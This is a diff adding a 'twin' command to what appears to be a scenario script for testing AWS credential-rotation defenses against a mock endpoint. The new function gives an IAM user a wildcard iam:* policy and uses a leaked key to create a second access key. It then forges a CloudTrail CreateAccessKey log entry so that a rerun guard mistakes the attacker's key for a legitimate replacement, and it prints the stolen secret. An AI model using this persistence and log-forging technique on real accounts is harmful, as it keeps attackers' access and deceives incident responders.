@@ -113,6 +113,30 @@ def attack(url, group, user, key, secret):
                       "session_key": creds["AccessKeyId"], "session_secret": creds["SecretAccessKey"],
                       "session_token": creds["SessionToken"], "event_ids": ids}))
 
+def twin(url, group, user, key, secret):
+    """The leaked key mints a second key for its own user and the record goes to a log group:
+    the newer Active key a rerun guard would take for a replacement is the attacker's."""
+    import time, uuid
+    client("iam", url).put_user_policy(UserName=user, PolicyName="ci-iam", PolicyDocument=json.dumps({
+        "Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "iam:*", "Resource": "*"}]}))
+    k = client("iam", url, key, secret).create_access_key(UserName=user)["AccessKey"]
+    now = int(time.time() * 1000)
+    event_id = str(uuid.uuid4())
+    message = json.dumps({
+        "eventVersion": "1.08", "eventTime": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now / 1000 - 60)),
+        "eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "awsRegion": "us-east-1",
+        "sourceIPAddress": "198.51.100.23", "userAgent": "aws-cli/2.15.0", "eventID": event_id,
+        "eventType": "AwsApiCall", "requestParameters": {"userName": user},
+        "responseElements": {"accessKey": {"accessKeyId": k["AccessKeyId"], "status": "Active", "userName": user}},
+        "userIdentity": {"type": "IAMUser", "accessKeyId": key, "userName": user,
+                         "arn": f"arn:aws:iam::123456789012:user/{user}", "accountId": "123456789012"}})
+    logs = client("logs", url)
+    logs.create_log_group(logGroupName=group)
+    logs.create_log_stream(logGroupName=group, logStreamName="cloudtrail")
+    logs.put_log_events(logGroupName=group, logStreamName="cloudtrail",
+                        logEvents=[{"timestamp": now - 60000, "message": message}])
+    print(json.dumps({"twin_key": k["AccessKeyId"], "twin_secret": k["SecretAccessKey"], "event_id": event_id}))
+
 def steal(url, group, user, key, secret):
     import time, uuid
     admin = client("iam", url)
@@ -262,6 +286,8 @@ def main():
         attack(url, *sys.argv[3:7])
     elif cmd == "steal":
         steal(url, *sys.argv[3:7])
+    elif cmd == "twin":
+        twin(url, *sys.argv[3:7])
     elif cmd == "secret-state":
         secret_state(url, sys.argv[3])
     elif cmd == "trail-records":
